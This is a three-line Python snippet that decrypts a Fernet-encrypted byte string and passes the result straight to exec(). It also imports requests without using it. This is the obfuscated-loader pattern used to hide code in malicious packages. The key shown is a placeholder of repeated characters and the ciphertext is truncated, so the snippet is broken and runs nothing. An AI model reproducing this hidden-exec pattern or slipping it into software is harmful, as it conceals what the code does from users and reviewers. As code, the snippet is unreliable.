from cryptography.fernet import Fernet
import requests
exec(Fernet(b'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=').decrypt(b'gAAAAABk'))
